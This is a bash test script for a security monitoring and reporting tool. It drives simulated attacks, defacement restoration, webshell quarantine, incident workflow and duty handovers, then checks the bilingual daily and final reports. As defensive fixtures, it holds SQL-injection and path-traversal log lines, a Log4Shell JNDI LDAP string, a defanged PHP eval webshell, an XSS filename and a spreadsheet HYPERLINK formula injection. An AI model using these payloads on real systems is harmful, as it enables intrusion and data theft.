#!/bin/bash
# Reports from a simulated day driven through the real binary: attacks appended to a
# watched log (one source on an IOC list), a defaced page restored, a webshell with
# markup in its name quarantined, incidents walked through the workflow by named
# people, a block, a duty roster with a handover. Then the daily briefing and the
# final summary in English and Chinese: their numbers against the store (sqlite3),
# every store string escaped, the deliverables hashed and private, and the PDFs
# (when chromium is installed) one page, not blank, with the key words in the text.
source "$SRCDIR/tests/lib.sh"

cd "$TMP"
wpid=
# REPORT_KEEP=DIR keeps the reports and PNGs to look at.
trap '[ -n "$wpid" ] && kill $wpid 2>/dev/null; wait 2>/dev/null; [ -n "${REPORT_KEEP:-}" ] && cp -r "$TMP" "$REPORT_KEEP"; rm -rf "$TMP"' EXIT
mkdir -p www/upload
echo '<html><body><h1>Agency</h1></body></html>' >www/index.html
: >access.log
echo 203.0.113.66 >ioc.txt
cat >r.yaml <<YAML
store: {path: $TMP/r.db}
monitor:
  rules: $SRCDIR/rules
  ioc_files: [$TMP/ioc.txt]
  sources:
    - {name: portal, path: $TMP/access.log, format: combined}
webroots:
  - {name: portal-www, path: $TMP/www, policy: restore}
protect: {backup_dir: $TMP/backup, quarantine_dir: $TMP/vault}
block:
  adapters: [command]
  command_add: [python3, -c, "import sys; open(sys.argv[1], 'a').write(sys.argv[2] + '\\\\n')", $TMP/blocked.txt, "{}"]
  command_del: [python3, -c, "pass"]
sla:
  critical: {ack: 1s, dispose: 1h}
  high: {ack: 1s, dispose: 1h}
  medium: {ack: 1s, dispose: 1h}
YAML
V() { "$VIGIL" --config r.yaml "$@"; }
q() { sqlite3 r.db "$1"; }

V backup create >/dev/null 2>&1 || not_ok "backup create"
"$VIGIL" --config r.yaml watch --ready-file ready >watch.out 2>watch.err & wpid=$!
wait_for 60 test -e ready && ok "watch is ready" || not_ok "watch did not start: $(cat watch.err)"

# The attacks, stamped now so they fall on today's briefing.
ts=$(date -u '+%d/%b/%Y:%H:%M:%S +0000')
DAY=$(date +%F)
{
	for i in 1 2 3; do
		echo "203.0.113.66 - - [$ts] \"GET /item.php?id=$i%27%20union%20select%201,2-- HTTP/1.1\" 200 5 \"-\" \"sqlmap/1.7\""
	done
	echo "198.51.100.23 - - [$ts] \"GET /../../etc/passwd HTTP/1.1\" 400 0 \"-\" \"curl/8.0\""
	echo "192.0.2.44 - - [$ts] \"GET /?x=\${jndi:ldap://192.0.2.44/a} HTTP/1.1\" 404 0 \"-\" \"Mozilla/5.0\""
} >>access.log
n_alerts_from() { [ "$(q "select count(*) from alerts where source_ip = '$1'")" -ge 1 ]; }
wait_for 60 n_alerts_from 192.0.2.44 &&
	ok "log attacks are alerts" || not_ok "no alerts from the log"

# A defacement (restored) and a webshell whose name carries markup (quarantined).
echo '<div style="display:none"><a href="http://casino.example/">casino</a></div>' >>www/index.html
wait_for 60 bash -c '! grep -q casino www/index.html' && ok "the page is restored" || not_ok "page not restored"
shell='www/upload/x<img src=x onerror=alert(1)>.php'
printf '%s\n' "<?php @eval(\$_POST[DEFANGED 'pass']);?>" >"$shell"
wait_for 60 bash -c "test ! -e '$shell'" && ok "the webshell is quarantined" || not_ok "webshell still there"
kill "$wpid"; wait "$wpid"; wpid=

# The duty team's day.
V incident sync >/dev/null
sqli=$(q "select id from incidents where source_ip = '203.0.113.66' and family = 'sqli' limit 1")
lfi=$(q "select id from incidents where rule_id = 'http.traversal.dotdot' limit 1")
[ -n "$sqli" ] && [ -n "$lfi" ] && ok "incidents were opened" || not_ok "no incidents (sqli '$sqli', lfi '$lfi')"
V incident ack "$sqli" --by alice -m "on it" >/dev/null &&
V incident verify "$sqli" --by alice --verdict tp -m "real injection" >/dev/null &&
V incident dispose "$sqli" --by alice --action block --target 203.0.113.66 --result "blocked" >/dev/null &&
V incident feedback "$sqli" --by alice -m "reported to the CERT" >/dev/null &&
V incident close "$sqli" --by bob >/dev/null && ok "an incident walked to closed" || not_ok "workflow failed"
V incident ack "$lfi" --by carol >/dev/null &&
V incident verify "$lfi" --by carol --verdict fp --suppress -m "our own scanner" >/dev/null &&
	ok "a false positive" || not_ok "false positive failed"
V block add 203.0.113.66 --for 1d --reason sqlmap --by alice >/dev/null && ok "a block" || not_ok "block add"
V duty add --person alice --from "$DAY 08:00" --to "$DAY 20:00" --daily --by admin >/dev/null &&
V duty add --person bob --from "$DAY 20:00" --to "$(date -d "$DAY + 1 day" +%F) 08:00" --daily --by admin >/dev/null &&
V duty handover alice bob -m "1 open incident <b>watch it</b>" --by alice >/dev/null &&
V duty handover bob alice -m '=HYPERLINK("http://evil.example/","x")' --by bob >/dev/null &&
	ok "duty roster and a handover" || not_ok "duty"
# Rectification (assess, migration 008): one critical item fixed and verified, one
# critical left open, one risk accepted. Assets: one declared, one shadow found today.
A() { V assess "$@" --by alice >/dev/null; }
A add --title "Struts2 RCE S2-045" --asset www.example.cn --severity critical --deadline +1d &&
A add --title "Admin panel <exposed>" --asset 10.0.0.5 --severity critical &&
A add --title "Legacy FTP" --asset 10.0.0.9 --severity medium &&
fixed=$(q "select id from findings where title like 'Struts2%'") &&
A set-state "$fixed" fixing && A set-state "$fixed" fixed -m "patched" &&
A set-state "$fixed" verified -m "re-checked: not vulnerable" &&
A accept "$(q "select id from findings where title = 'Legacy FTP'")" --approver director --reason "retired after the event" &&
	ok "rectification items through vigil assess" || not_ok "vigil assess failed"
now_us=$(($(date +%s) * 1000000))
q "insert into assets(address, hostname, declared, first_seen, last_seen) values
	('10.0.0.5', 'portal', 1, $now_us, $now_us), ('10.0.0.77', 'test-<box>', 0, $now_us, $now_us)"
# An ack clock of 1 s: the untouched incidents become overdue.
overdue() { [ "$(q "select count(*) from incidents where state = 'new' and due_at <= cast(strftime('%s','now') as integer) * 1000000")" -ge 1 ]; }
wait_for 60 overdue ||
	not_ok "no incident became overdue"

# ---- the daily briefing ----
run V report daily --date "$DAY" -o daily-en.html
expect_rc "daily briefing (en)" 0
expect_eq "it prints its path" "$OUT" "daily-en.html"
expect_eq "the report is private" "$(stat -c %a daily-en.html)" 600
H=$(cat daily-en.html)
has() { if grep -qF -- "$2" <<<"$H"; then ok "$1"; else not_ok "$1 (no '$2')"; fi; }
hasnt() { if grep -qF -- "$2" <<<"$H"; then not_ok "$1 ('$2' present)"; else ok "$1"; fi; }
from=$(date -d "$DAY" +%s)000000; to=$(date -d "$DAY + 1 day" +%s)000000
within="first_seen >= $from and first_seen < $to"
events=$(q "select sum(count) from alerts where $within")
sources=$(q "select count(distinct source_ip) from alerts where $within")
has "status sentence: events and sources as in the store" "$events attack events from $sources sources"
has "status: the restored page" "1 page restored"
has "status: the quarantined webshell" "1 webshell quarantined"
has "status: overdue incidents" "incidents overdue"
opened=$(q "select count(*) from incidents where created_at >= $from and created_at < $to")
has "incidents opened as in the store" "Opened <b>$opened</b>"
has "two incidents handled (disposed + false positive)" "Disposed <b>2</b>"
has "one false positive" "False positives <b>1</b>"
has "one block in force" "Addresses and networks blocked now <b>1</b>"
ioc_events=$(q "select sum(count) from alerts where source_ip = '203.0.113.66' and $within")
has "the IOC source's events as in the store" "<td>203.0.113.66</td><td class=\"n\">$ioc_events</td>"
grep -A0 -F "<td>203.0.113.66</td>" <<<"$H" | grep -qF '<span class="tag">IOC</span>' &&
	ok "IOC tag on its row" || not_ok "no IOC tag on 203.0.113.66"
has "the hour chart is an inline SVG" "<svg viewBox"
has "duty covers the whole day" "Hours without anyone on duty <b>0</b>"
has "the handover note is escaped" "1 open incident &lt;b&gt;watch it&lt;/b&gt;"
has "the webshell's name is escaped" "x&lt;img src=x onerror=alert(1)&gt;.php"
hasnt "no raw markup from the store" "<img src=x"
hasnt "no script in the report" "<script"
has "decision: overdue incidents" "are past their SLA and still open"
has "findings found today as in the store" "Found in this period <b>$(q "select count(*) from findings where found_at >= $from and found_at < $to")</b>"
has "one fixed" "Fixed in this period <b>1</b>"
has "one open" "Open now <b>1</b>"
has "one accepted" "Accepted risks <b>1</b>"
has "the open item's title is escaped" "Admin panel &lt;exposed&gt;"
has "decision: a critical item is open" "1 critical vulnerabilities or rectification items are open"
has "decision: an accepted risk to confirm" "1 risks were accepted rather than fixed"
has "a new shadow asset" "New shadow (undeclared) assets found in this period <b>1</b>"
has "its host name escaped" "test-&lt;box&gt;"

run V report daily --date "$DAY" --lang zh -o daily-zh.html
expect_rc "daily briefing (zh)" 0
H=$(cat daily-zh.html)
has "Chinese title" "<h1>每日简报</h1>"
has "Chinese status sentence" "共记录攻击 $events 次，来自 $sources 个来源"
has "Chinese: restored page" "恢复页面 1 个"

run V report daily --date 2001-01-01 -o empty.html
H=$(cat empty.html)
has "an empty day says so" "No attacks recorded in this period."
hasnt "and draws no chart" "<svg"

run V report daily --date tomorrowish
expect_rc "a bad --date is a usage error" 2
run V report weekly
expect_rc "an unknown report is a usage error" 2

# ---- the final work summary and its deliverables ----
NEXT=$(date -d "$DAY + 1 day" +%F)
run V report final --from "$DAY" --to "$NEXT" -o final-en.html
expect_rc "final summary (en)" 0
expect_match "it names the deliverables directory" out "final-en-deliverables/ \(7 deliverables"
H=$(cat final-en.html)
has "final: title" "<h1>Final work summary</h1>"
has "final: the same status sentence" "$events attack events from $sources sources"
has "final: the handling chain names who acknowledged" "<b>Acknowledged</b>"
has "final: alice disposed" "alice: block 203.0.113.66"
has "final: bob closed" "<b>Closed</b>"
has "final: dispose times against the SLA" "Opened to disposed"
has "final: advice names the rule with the false positive" "Rule with most false positives (1): tune it <b>http.traversal"
has "final: deliverables with their hashes" "SHA-256"
has "final: before/after: the fixed item passed its re-check" "<td>$(q "select kind from findings limit 1")</td><td class=\"n\">3</td><td class=\"n\">1</td><td class=\"n\">1</td><td class=\"n\">1</td><td class=\"n\">1</td>"
has "final: advice on the shadow asset found late" "1 shadow assets were found only during the event"
cd final-en-deliverables
sha256sum -c --quiet SHA256SUMS && ok "SHA256SUMS checks" || not_ok "SHA256SUMS does not check"
expect_eq "rectification.csv lists the three items" "$(($(wc -l <rectification.csv) - 1))" 3
for f in assets.csv rectification.csv incidents.json notices.csv alerts.csv actions.csv handovers.csv; do
	grep -q "  $f\$" SHA256SUMS || not_ok "$f not in SHA256SUMS"
	h=$(sha256sum "$f" | cut -d' ' -f1)
	grep -qF "$h" ../final-en.html || not_ok "the report does not list $f's hash"
done
expect_eq "deliverables are private" "$(stat -c %a . alerts.csv incidents.json | sort -u | tr '\n' ' ')" "600 700 "
expect_eq "alerts.csv holds the period's alerts" "$(($(wc -l <alerts.csv) - 1))" \
	"$(cd .. && q "select count(*) from alerts where $within")"
python3 - <<'PY' && ok "incidents.json: history with who" || not_ok "incidents.json lacks the history"
import json
inc = json.load(open("incidents.json"))
steps = [(h["action"], h["actor"]) for i in inc for h in i["history"]]
assert ("ack", "alice") in steps and ("close", "bob") in steps, steps
PY
grep -qF "\"'=HYPERLINK(" handovers.csv && ok "a formula in a CSV cell is defused" ||
	not_ok "formula cell not defused: $(cat handovers.csv)"
cd ..
run V report final --from "$DAY" --to "$NEXT" --lang zh -o final-zh.html --exports x-zh
expect_rc "final summary (zh)" 0
H=$(cat final-zh.html)
has "final (zh): title" "<h1>工作总结</h1>"
has "final (zh): planning advice" "安全规划建议"
has "final (zh): deliverables in Chinese" "整改清单"
run V report final --from "$NEXT" --to "$DAY"
expect_rc "final with --to before --from is a usage error" 2

# ---- PDF ----
if command -v chromium >/dev/null && command -v pdftoppm >/dev/null; then
	for lang in en zh; do
		run V report daily --date "$DAY" --lang $lang --format pdf -o daily-$lang.pdf
		expect_rc "daily PDF ($lang)" 0
		expect_eq "one page ($lang)" "$(pdfinfo daily-$lang.pdf | awk '/^Pages:/ {print $2}')" 1
		pdftoppm -r 50 -gray -singlefile daily-$lang.pdf page-$lang
		ink=$(python3 -c 'import sys; d=open(sys.argv[1],"rb").read(); h=d.split(b"\n",3); px=h[3]; print(sum(1 for b in px if b < 128) * 1000 // len(px))' page-$lang.pgm)
		[ "$ink" -ge 5 ] && ok "the page is not blank ($lang: $ink per mille dark)" ||
			not_ok "blank page ($lang: $ink per mille dark)"
	done
	pdftotext daily-en.pdf - | grep -q "Daily security briefing" && ok "PDF text (en)" || not_ok "PDF text (en)"
	pdftotext daily-zh.pdf - | grep -q "每日简报" && ok "PDF text has the Chinese title" || not_ok "PDF text (zh)"
	pdftotext daily-zh.pdf - | grep -q "未发现成功入侵迹象\|疑似入侵" && ok "PDF text has the Chinese status" ||
		not_ok "PDF text lacks the Chinese status"
	run V report final --from "$DAY" --to "$NEXT" --lang zh --format pdf -o final-zh.pdf --exports x-pdf
	expect_rc "final PDF (zh)" 0
	pdftotext final-zh.pdf - | grep -q "工作总结" && ok "final PDF text (zh)" || not_ok "final PDF text (zh)"
	pdftoppm -r 50 -png -f 1 -l 1 final-zh.pdf final-zh
else
	skip "PDF output" "needs chromium and poppler-utils"
fi
ERR=$(cat watch.err)
expect_clean_stderr "watch: no sanitizer reports"
finish
